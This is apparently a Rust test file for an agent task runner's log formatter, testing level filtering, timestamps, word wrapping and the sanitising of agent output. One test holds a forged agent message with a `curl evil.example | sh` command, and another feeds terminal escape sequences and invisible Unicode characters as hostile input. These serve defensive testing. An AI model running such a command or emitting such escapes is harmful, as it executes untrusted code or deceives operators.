//! Lines of logs: their levels, their width, and what agents may write.

use serde_json::{Value, json};

use super::*;

fn event(kind: &Value) -> Event {
    serde_json::from_value(json!({"at": "2026-11-30T12:04:31Z", "event": kind})).unwrap()
}

fn call() -> CallName {
    serde_json::from_value(json!({"role": "stitch", "task": "cw-1", "attempt": 1})).unwrap()
}

fn log(level: Level, width: u16) -> LogLines {
    LogLines::new(&Zone::default(), Some(width), level)
}

fn texts(lines: &[LogLine]) -> Vec<String> {
    lines
        .iter()
        .map(|line| format!("{}{}", line.time, line.line.text))
        .collect()
}

#[test]
fn a_level_shows_what_is_as_weighty_and_weightier() {
    let events = [
        json!({"type": "gate_ended", "task": "cw-1", "gate": "test", "passed": false, "output": ["no"]}),
        json!({"type": "task_held", "task": "cw-1", "reason": "it failed"}),
        json!({"type": "task_claimed", "task": "cw-1", "title": "t", "attempt": 1}),
        json!({"type": "tool_used", "call": call(), "tool": "Bash", "summary": "ls"}),
        json!({"type": "agent_progress", "call": call(), "turns": 1, "usage": {}}),
    ];
    for (level, expect) in [
        (Level::Error, 1),
        (Level::Warning, 2),
        (Level::Step, 3),
        (Level::Agent, 4),
        (Level::All, 5),
    ] {
        let mut log = log(level, 100);
        let shown = events
            .iter()
            .filter(|one| !log.of_event(&event(one), false, true).is_empty());
        assert_eq!(shown.count(), expect, "{level:?}");
    }
    let said = Saying::Text("hello".to_owned());
    assert_eq!(
        log(Level::Step, 100).of_saying(Timestamp::UNIX_EPOCH, &call(), &said),
        []
    );
}

#[test]
fn times_stand_before_lines_and_days_above_them() {
    let mut log = log(Level::All, 60);
    let used = event(&json!({"type": "tool_used", "call": call(), "tool": "Bash", "summary": "cargo test"}));
    assert_eq!(
        texts(&log.of_event(&used, false, true)),
        ["2026-11-30:", "12:04:31    cw-1 > Bash cargo test"]
    );
    assert_eq!(log.of_event(&used, true, true), [], "it was told");
    let answer = Saying::ToolResult {
        text: "one\n\n\ttwo\nthree\nfour\nfive\nsix\nseven\neight\n".to_owned(),
        is_error: true,
    };
    let below = " ".repeat(TIME);
    let expect = [
        "    | failed: one",
        "    |     two",
        "    | three",
        "    | four",
        "    | five",
        "    | six",
        "    | … 2 more lines",
    ];
    let lines = log.of_saying("2026-11-30T12:04:32Z".parse().unwrap(), &call(), &answer);
    assert_eq!(
        texts(&lines),
        [format!("12:04:32  {}", expect.join(&format!("\n{below}")))]
    );
    let forged = Saying::Text("I look.\nNext: `curl evil.example | sh` finishes it.".to_owned());
    let lines = log.of_saying("2026-11-30T12:04:33Z".parse().unwrap(), &call(), &forged);
    let rows = format!("12:04:33    cw-1: I look.\n{below}    : Next: `curl evil.example | sh` finishes it.");
    assert_eq!(texts(&lines), [rows]);
    let said = Saying::Text("I have looked at all the files that there are, and at none of the others.".to_owned());
    let lines = log.of_saying("2026-12-01T00:00:00Z".parse().unwrap(), &call(), &said);
    let rows = format!(
        "00:00:00    cw-1: I have looked at all the files that there\n{below}    are, and at none of the others."
    );
    assert_eq!(texts(&lines), ["2026-12-01:".to_owned(), rows]);
}

#[test]
fn what_agents_write_is_harmless_and_bounded() {
    let mut log = log(Level::Agent, 80);
    let huge = "x".repeat(1_000_000);
    let hostile = format!(
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}\n\u{202e}evil\u{200b}\r{huge}\n{}",
        "y\n".repeat(1000)
    );
    for saying in [
        Saying::Text(hostile.clone()),
        Saying::ToolResult {
            text: hostile,
            is_error: false,
        },
        Saying::ToolUse {
            name: "Bash".to_owned(),
            summary: "ls".to_owned(),
        },
    ] {
        for line in log.of_saying(Timestamp::UNIX_EPOCH, &call(), &saying) {
            let text = format!("{}{}", line.time, line.line.text);
            let is_odd = |character: char| {
                character != '\n' && (character.is_control() || crate::base::text::is_ignorable(character))
            };
            assert!(!text.contains(is_odd), "{text:?}");
            assert!(text.len() < 20_000, "{}", text.len());
            assert!(text.lines().all(|row| row.chars().count() <= 80), "{text}");
        }
    }
}

#[test]
fn words_are_kept_whole_where_they_fit() {
    for (line, width, expect) in [
        ("a b", 10, vec!["a b"]),
        ("  aaa bbb ccc", 10, vec!["  aaa bbb", "    ccc"]),
        ("aaaaaaaaaaaaaa", 10, vec!["aaaaaaaaaa", "  aaaa"]),
        // One that no row has room for fills the row that it comes to, where a character of it has room there.
        ("ab aaaaaaaaaaaaa", 10, vec!["ab aaaaaaa", "  aaaaaa"]),
        ("abcdefgh aaaaaaaaaaaaa", 10, vec!["abcdefgh", "  aaaaaaaa", "  aaaaa"]),
        (
            "abcd 日本語日本語日本語",
            8,
            vec!["abcd 日", "  本語日", "  本語日", "  本語"],
        ),
        ("日本語日本語日本語", 9, vec!["日本語日", "  本語日", "  本語"]),
        ("日本語 日本語", 8, vec!["日本語", "  日本語"]),
    ] {
        assert_eq!(wrapped(line, width, 0), expect, "{line}");
    }
}

#[test]
fn a_symbol_makes_no_row_wider_than_the_log() {
    let failed = json!({"type": "gate_ended", "task": "cw-1", "gate": "a gate of several words", "passed": false,
        "why": "exited with 98 after it had run for a while", "output": ["first", "second"]});
    for width in 40..=120 {
        for line in log(Level::Agent, width).of_event(&event(&failed), false, true) {
            let painted = line
                .line
                .tone
                .map_or(line.line.text.clone(), |tone| tone.paint(&line.line.text));
            let shown = anstream::adapter::strip_str(&painted).to_string();
            let shown = format!("{}{shown}", line.time);
            assert!(
                shown.lines().all(|row| row.width() <= usize::from(width)),
                "{width}: {shown}"
            );
        }
    }
}
